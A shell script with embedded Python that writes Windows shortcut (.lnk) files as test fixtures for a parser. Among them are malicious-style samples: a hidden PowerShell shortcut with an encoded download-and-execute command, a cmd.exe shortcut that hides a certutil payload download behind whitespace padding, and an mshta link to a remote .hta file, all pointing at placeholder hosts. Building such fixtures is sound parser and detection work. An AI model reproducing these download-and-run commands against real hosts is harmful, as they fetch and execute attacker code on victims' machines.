#!/usr/bin/env bash
# Windows shortcuts (MS-SHLLINK) written here byte by byte: no permissively licensed PyPI source
# package ships .lnk samples (LnkParse3's sdist carries none; the packages that do are GPL, LGPL or
# AGPL). These are the project's own files, licence MIT OR Apache-2.0. They cover the header (flags,
# attributes, FILETIMEs, size, show command, hot key), ID lists (root CLSID, volume, file entries
# with and without the 0xBEEF0004 long-name extension), link info (local volume, network share),
# ANSI and Unicode string data, and the environment, icon environment, tracker, known folder and
# special folder blocks. Nothing here runs: the targets and URLs are inert (example.invalid).
set -euo pipefail
out=${1:?usage: lnk.sh OUT_DIR}
python3 - "$out" <<'PY'
import base64, struct, sys, uuid, os

out = sys.argv[1]
LINK_CLSID = uuid.UUID("00021401-0000-0000-c000-000000000046").bytes_le
MY_COMPUTER = uuid.UUID("20d04fe0-3aea-1069-a2d8-08002b30309d").bytes_le

def filetime(year, month, day, hour, minute, second):
    import datetime
    moment = datetime.datetime(year, month, day, hour, minute, second, tzinfo=datetime.timezone.utc)
    epoch = datetime.datetime(1601, 1, 1, tzinfo=datetime.timezone.utc)
    return int((moment - epoch).total_seconds()) * 10_000_000

def item(body):
    return struct.pack("<H", len(body) + 2) + body

def root_item():
    return item(b"\x1f\x50" + MY_COMPUTER)

def volume_item(letter):
    return item(b"\x2f" + (letter + ":\\").encode().ljust(22, b"\0"))

def file_item(short, long=None, directory=False, size=0):
    kind = 0x31 if directory else 0x32
    name = short.encode() + b"\0"
    if len(name) % 2:
        name += b"\0"
    body = bytes([kind, 0]) + struct.pack("<IIH", size, 0x5A2B_6C3D, 0x10 if directory else 0x20) + name
    if long is not None:
        # 0xBEEF0004, version 9 (Windows 7 and later).
        ext = struct.pack("<HI", 9, 0xBEEF0004) + struct.pack("<II", 0x5A2B_6C3D, 0x5A2B_6C3D)
        ext += struct.pack("<H", 0x2E) + struct.pack("<H", 0) + struct.pack("<QQ", 0x1234, 0)
        ext += struct.pack("<H", 0) + struct.pack("<I", 0) + struct.pack("<I", 0)
        ext += long.encode("utf-16-le") + b"\0\0"
        ext += struct.pack("<H", len(body) + 2)
        body += struct.pack("<H", len(ext) + 2) + ext
    return item(body)

def id_list(items):
    data = b"".join(items) + b"\0\0"
    return struct.pack("<H", len(data)) + data

def volume_id(drive_type, serial, label):
    body = struct.pack("<III", drive_type, serial, 0x10) + label.encode() + b"\0"
    return struct.pack("<I", len(body) + 4) + body

def link_info_local(drive_type, serial, label, base, suffix=""):
    vol = volume_id(drive_type, serial, label)
    header = 0x1C
    vol_off = header
    base_off = vol_off + len(vol)
    base_b = base.encode() + b"\0"
    suffix_off = base_off + len(base_b)
    tail = vol + base_b + suffix.encode() + b"\0"
    size = header + len(tail)
    return struct.pack("<IIIIIII", size, header, 1, vol_off, base_off, 0, suffix_off) + tail

def link_info_local_unicode(drive_type, serial, label, base):
    # Header 0x24 with Unicode offsets; the volume label Unicode too (label offset 0x14).
    label_w = label.encode("utf-16-le") + b"\0\0"
    vol_body = struct.pack("<IIII", drive_type, serial, 0x14, 0x14) + label_w
    vol = struct.pack("<I", len(vol_body) + 4) + vol_body
    header = 0x24
    vol_off = header
    base_off = vol_off + len(vol)
    ansi = base.encode("cp1252", "replace") + b"\0"
    suffix_off = base_off + len(ansi)
    base_w_off = suffix_off + 1
    wide = base.encode("utf-16-le") + b"\0\0"
    suffix_w_off = base_w_off + len(wide)
    tail = vol + ansi + b"\0" + wide + b"\0\0"
    size = header + len(tail)
    return struct.pack("<IIIIIIIII", size, header, 1, vol_off, base_off, 0, suffix_off, base_w_off, suffix_w_off) + tail

def link_info_network(share, device, suffix):
    net = share.encode() + b"\0"
    dev = device.encode() + b"\0"
    cnrl_body_len = 0x14
    cnrl = struct.pack("<IIIII", cnrl_body_len + len(net) + len(dev), 3, 0x14, 0x14 + len(net), 0x00020000) + net + dev
    header = 0x1C
    cnrl_off = header
    suffix_off = cnrl_off + len(cnrl)
    tail = cnrl + suffix.encode() + b"\0"
    size = header + len(tail)
    return struct.pack("<IIIIIII", size, header, 2, 0, 0, cnrl_off, suffix_off) + tail

def string(text, unicode):
    if unicode:
        return struct.pack("<H", len(text)) + text.encode("utf-16-le")
    return struct.pack("<H", len(text)) + text.encode("cp1252")

def env_block(signature, target):
    ansi = target.encode("cp1252")[:259].ljust(260, b"\0")
    wide = target.encode("utf-16-le")[:518].ljust(520, b"\0")
    return struct.pack("<II", 0x314, signature) + ansi + wide

def tracker(machine, mac):
    node = int(mac.replace(":", ""), 16)
    volume = uuid.UUID("5c2e4a1b-7d3f-4e8a-9b1c-2d3e4f5a6b7c").bytes_le
    file = uuid.UUID(fields=(0x1E3A5B7C, 0x9D2F, 0x11EE, 0x80 | 0x12, 0x34, node)).bytes_le
    body = struct.pack("<II", 0x58, 0) + machine.encode().ljust(16, b"\0") + volume + file + volume + file
    return struct.pack("<II", 0x60, 0xA0000003) + body

def known_folder(guid):
    return struct.pack("<II", 0x1C, 0xA000000B) + uuid.UUID(guid).bytes_le + struct.pack("<I", 0)

def special_folder(csidl):
    return struct.pack("<IIII", 0x10, 0xA0000005, csidl, 0)

FLAGS = dict(idlist=0x1, linkinfo=0x2, name=0x4, relpath=0x8, workdir=0x10, args=0x20, icon=0x40,
             unicode=0x80, expstring=0x200, expicon=0x4000)

def lnk(path, flags, attributes=0x20, times=(0, 0, 0), size=0, show=1, hotkey=0, icon_index=0,
        idlist=None, info=None, strings=(), extras=()):
    bits = 0
    for f in flags:
        bits |= FLAGS[f]
    header = struct.pack("<I", 0x4C) + LINK_CLSID + struct.pack("<II", bits, attributes)
    header += struct.pack("<QQQ", *times) + struct.pack("<IiIH", size, icon_index, show, hotkey) + b"\0" * 10
    assert len(header) == 0x4C
    data = header
    if idlist is not None:
        data += id_list(idlist)
    if info is not None:
        data += info
    for text in strings:
        data += string(text, "unicode" in flags)
    for block in extras:
        data += block
    data += b"\0\0\0\0"
    with open(os.path.join(out, path), "wb") as handle:
        handle.write(data)

times = (filetime(2023, 3, 14, 9, 26, 53), filetime(2024, 1, 2, 3, 4, 5), filetime(2023, 11, 30, 23, 59, 59))
ps_path = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
command = 'IEX (New-Object Net.WebClient).DownloadString("http://example.invalid/stage2.ps1")'
encoded = base64.b64encode(command.encode("utf-16-le")).decode()
lnk("powershell-encoded.lnk", ["idlist", "linkinfo", "workdir", "args", "icon", "unicode", "expstring"],
    times=times, size=450560, show=7,
    idlist=[root_item(), volume_item("C"), file_item("Windows", "Windows", True),
            file_item("System32", "System32", True), file_item("WINDOW~1", "WindowsPowerShell", True),
            file_item("v1.0", "v1.0", True), file_item("POWERS~1.EXE", "powershell.exe", size=450560)],
    info=link_info_local(3, 0x1C2D3E4F, "OS", ps_path),
    strings=["%TEMP%", "-NoP -W Hidden -enc " + encoded, r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"],
    extras=[env_block(0xA0000001, r"%windir%\System32\WindowsPowerShell\v1.0\powershell.exe"),
            tracker("desktop-fcas01", "00:0c:29:3a:5b:7c")])

lnk("cmd-padded.lnk", ["idlist", "workdir", "args", "icon"], attributes=0x20, size=289792, show=7, hotkey=0x0674,
    idlist=[root_item(), volume_item("C"), file_item("Windows", None, True), file_item("System32", None, True),
            file_item("cmd.exe", None, size=289792)],
    strings=[r"C:\Users\Public", " " * 280 + "/c start /b certutil -urlcache -f http://192.0.2.10/p.bin %TEMP%\\p.exe",
             r"C:\Users\Public\Documents\invoice.pdf"],
    extras=[tracker("win-lab-07", "08:00:27:11:22:33")])

lnk("network-share.lnk", ["idlist", "linkinfo", "unicode"], attributes=0x20,
    times=(filetime(2022, 6, 1, 12, 0, 0), filetime(2022, 6, 2, 12, 0, 0), filetime(2022, 6, 3, 12, 0, 0)),
    size=12345,
    idlist=[root_item()],
    info=link_info_network(r"\\FILESRV\public", "Z:", r"reports\q2.docx"),
    extras=[known_folder("fdd39ad0-238f-46af-adb4-6c85480369c7"), special_folder(5)])

lnk("notepad.lnk", ["idlist", "linkinfo", "name", "relpath", "workdir", "icon", "unicode", "expicon"],
    attributes=0x20, times=times, size=201216, show=3, hotkey=0x0341,
    idlist=[root_item(), volume_item("C"), file_item("Windows", "Windows", True), file_item("notepad.exe", "notepad.exe", size=201216)],
    info=link_info_local(3, 0xA1B2C3D4, "System", r"C:\Windows\notepad.exe"),
    strings=["Text editor \u00e9\u4e2d", r"..\..\..\Windows\notepad.exe", "%HOMEDRIVE%%HOMEPATH%", r"%SystemRoot%\system32\notepad.exe"],
    extras=[env_block(0xA0000007, r"%SystemRoot%\system32\notepad.exe")])

lnk("mshta-url.lnk", ["idlist", "args", "unicode"], attributes=0x20,
    idlist=[root_item(), volume_item("C"), file_item("Windows", "Windows", True), file_item("System32", "System32", True),
            file_item("mshta.exe", "mshta.exe", size=14336)],
    strings=["https://example.invalid/invoice.hta"])

lnk("unicode-info.lnk", ["linkinfo", "args", "unicode"], attributes=0x20,
    info=link_info_local_unicode(3, 0x0BADF00D, "Données", "C:\\Users\\Zoë\\Documents\\résumé.vbs"),
    strings=["//B //E:vbscript"])

lnk("folder-ansi.lnk", ["linkinfo", "workdir"], attributes=0x10,
    info=link_info_local(2, 0x00C0FFEE, "USBKEY", "E:\\", "Photos"),
    strings=["E:\\"])
PY
